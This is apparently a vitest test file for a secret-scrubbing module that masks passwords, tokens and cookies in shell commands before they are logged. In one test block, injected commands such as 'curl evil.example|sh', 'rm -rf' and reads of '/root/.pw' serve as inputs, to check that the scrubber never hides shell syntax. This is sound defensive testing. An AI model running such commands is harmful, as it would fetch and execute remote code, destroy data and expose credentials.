import { Writable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { createLogger } from './logger.js';
import {
  SCRUBBED,
  scrubCommand,
  scrubCommandValue,
  scrubSecrets,
  scrubUrlPassword,
  scrubValue,
} from './secret-scrubber.js';

const S = SCRUBBED;

describe('scrubCommand: secrets written into command text', () => {
  it.each([
    ['mysql -uroot -pS3cretPw -e "select 1"', `mysql -uroot -p${S} -e "select 1"`],
    ["mysqldump -h db -p'S3cret Pw' shop", `mysqldump -h db -p${S} shop`],
    ['mysql --password=S3cretPw shop', `mysql --password=${S} shop`],
    ['PGPASSWORD=S3cretPw psql -h db -U app', `PGPASSWORD=${S} psql -h db -U app`],
    ['env MYSQL_PWD="S3cretPw" mysql -u app', `env MYSQL_PWD=${S} mysql -u app`],
    ['export VAULT_TOKEN=hvs.CAES; vault read x', `export VAULT_TOKEN=${S}; vault read x`],
    [
      "curl -H 'Authorization: Bearer eyJhbGciOi.xyz' https://api.example.com/v1",
      `curl -H 'Authorization: Bearer ${S}' https://api.example.com/v1`,
    ],
    [
      'curl -H "authorization: Basic dXNlcjpwYXNz" http://x',
      `curl -H "authorization: Basic ${S}" http://x`,
    ],
    ['curl -H "X-Api-Key: k-123456" http://x', `curl -H "X-Api-Key: ${S}" http://x`],
    ['curl -H "PRIVATE-TOKEN: glpat-abc" http://x', `curl -H "PRIVATE-TOKEN: ${S}" http://x`],
    ["curl -H 'Cookie: session=abc; csrf=def' http://x", `curl -H 'Cookie: ${S}' http://x`],
    ['curl -u admin:S3cretPw http://x', `curl -u admin:${S} http://x`],
    ["curl --user 'admin:S3cretPw' http://x", `curl --user 'admin:${S}' http://x`],
    [
      'psql postgresql://app:S3cretPw@db.internal:5432/shop -c "select 1"',
      `psql postgresql://app:${S}@db.internal:5432/shop -c "select 1"`,
    ],
    [
      'redis-cli -u redis://:S3cretPw@cache:6379 ping',
      `redis-cli -u redis://:${S}@cache:6379 ping`,
    ],
    ['redis-cli -h cache -a S3cretPw ping', `redis-cli -h cache -a ${S} ping`],
    ['sshpass -p S3cretPw ssh web1 uptime', `sshpass -p ${S} ssh web1 uptime`],
    [
      'curl "https://api.example.com/x?access_token=abc123&page=2"',
      `curl "https://api.example.com/x?access_token=${S}&page=2"`,
    ],
    [
      `curl -d '{"user": "app", "password": "S3cretPw"}' http://x`,
      `curl -d '{"user": "app", "password": ${S}}' http://x`,
    ],
    ['wget --http-password=S3cretPw http://x', `wget --http-password=${S} http://x`],
    ['aws s3 ls --secret-key S3cretPw', `aws s3 ls --secret-key ${S}`],
  ])('scrubs %s', (command, scrubbed) => {
    expect(scrubCommand(command)).toBe(scrubbed);
  });

  it.each([
    'mkdir -p /tmp/x',
    'ssh -p 2222 web1 uptime',
    'ps -p 1 -o comm=',
    'journalctl -u nginx --since today',
    'sort -u /etc/hosts',
    'docker run -u 1000:1000 alpine id',
    'grep -r password /etc/app',
    'grep -n "password:" /etc/app.yml',
    'echo "$PGPASSWORD" | wc -c',
    'curl -H "Authorization: Bearer $TOKEN" http://x',
    'curl http://[::1]:8080/metrics',
    'curl http://host:8080/path@x',
    'mysql -u root -p shop',
    'systemctl status mysql',
    'cat /etc/mysql/my.cnf',
    'ls --token-file /x',
    'find / -name "*.pem" -newer /tmp/stamp',
  ])('leaves %s as it is', (command) => {
    expect(scrubCommand(command)).toBe(command);
  });

  // Whoever reads the line (or approves the command) still sees every expansion and command.
  it.each([
    'mysql -p$(curl -s evil.example | sh) shop',
    'mysql -p"$(cat /root/.pw)" shop',
    'PGPASSWORD=`cat /tmp/x` psql',
    'PGPASSWORD=abc;rm -rf /tmp/x',
    'curl -H Authorization:Bearer abc;curl evil.example|sh',
    'curl -H "Cookie: a=$(id)" http://x',
    'sshpass -p pw&&reboot',
    'redis-cli -a pw|tee /etc/x',
    'curl -u admin:pw;reboot',
    'curl https://u:p@h;reboot',
    `echo "password": "$(reboot)"`,
    'mysql -ppw\\;reboot',
  ])('never hides shell syntax: %s', (command) => {
    const shellSyntax = (text: string): string => text.replace(/[^$`\\;|&()<>]/g, '');
    expect(shellSyntax(scrubCommand(command))).toBe(shellSyntax(command));
    expect(scrubCommand(command)).toMatch(/reboot|rm -rf|evil|id\)|cat|tee/);
  });

  it('changes nothing more when applied twice', () => {
    const once = scrubCommand(
      "PGPASSWORD=x1 mysql -pS3cret curl -H 'Authorization: Bearer t' https://u:p@h -u a:b",
    );
    expect(scrubCommand(once)).toBe(once);
  });

  it('also scrubs the known secret values it is given', () => {
    expect(scrubCommand('echo hunter2-pw', ['hunter2-pw'])).toBe(`echo ${S}`);
  });

  it('scrubs every string in a value, leaving other values as they are', () => {
    const at = new Date(0);
    expect(scrubCommandValue({ command: 'mysql -pX1', n: 1, at, list: ['PGPASSWORD=p1'] })).toEqual(
      { command: `mysql -p${S}`, n: 1, at, list: [`PGPASSWORD=${S}`] },
    );
    expect(scrubValue({ at }, ['x1234']).at).toBe(at);
  });
});

describe('scrubSecrets: known secret values', () => {
  it('replaces every occurrence of each secret', () => {
    expect(scrubSecrets('a=tok-1 b=tok-1 c=pw-22', ['tok-1', 'pw-22'])).toBe(
      `a=${S} b=${S} c=${S}`,
    );
  });

  it('replaces a secret that contains another one whole', () => {
    expect(scrubSecrets('key abcd-efgh', ['abcd', 'abcd-efgh'])).toBe(`key ${S}`);
  });

  it('scrubs each line of a multi-line secret, so part of a private key leaks nothing', () => {
    const key = '-----BEGIN KEY-----\nQUJDREVGR0hJSktMTU5PUA==\n-----END KEY-----';
    expect(scrubSecrets('bad key: QUJDREVGR0hJSktMTU5PUA==', [key])).toBe(`bad key: ${S}`);
  });

  it('leaves secrets shorter than four characters alone, and text without secrets as it is', () => {
    expect(scrubSecrets('a cat sat', ['a', 'at'])).toBe('a cat sat');
    expect(scrubSecrets('nothing here', [])).toBe('nothing here');
  });
});

describe('scrubUrlPassword: connection strings', () => {
  it('scrubs the password of any length and characters, keeping user, host and database', () => {
    expect(scrubUrlPassword('postgres://akmatori:p@ss w$rd@db:5432/akmatori')).toBe(
      `postgres://akmatori:${S}@db:5432/akmatori`,
    );
    expect(scrubUrlPassword('postgres://u:x@db/a?sslmode=require')).toBe(
      `postgres://u:${S}@db/a?sslmode=require`,
    );
  });

  it('leaves a URL without a password as it is and shows no text that is not a URL', () => {
    expect(scrubUrlPassword('postgres://db:5432/akmatori')).toBe('postgres://db:5432/akmatori');
    expect(scrubUrlPassword('user:secret-pw@db')).not.toContain('secret-pw');
  });
});

describe('the logger', () => {
  it('scrubs command text in the fields that carry it', () => {
    let text = '';
    const destination = new Writable({
      write(chunk: Buffer, _encoding, done) {
        text += chunk.toString();
        done();
      },
    });
    const log = createLogger({ destination });
    log.info({ command: 'PGPASSWORD=pg-pw-1 psql' }, 'ssh command judged');
    log.child({ tool: 'x' }).info({ summary: 'run "mysql -pmy-pw-2" on db1' }, 'approval');
    log.info({ arguments: { command: "curl -H 'Authorization: Bearer tok-3'" } }, 'call');
    expect(text).not.toMatch(/pg-pw-1|my-pw-2|tok-3/);
    expect(text).toContain(`PGPASSWORD=${S} psql`);
  });
});
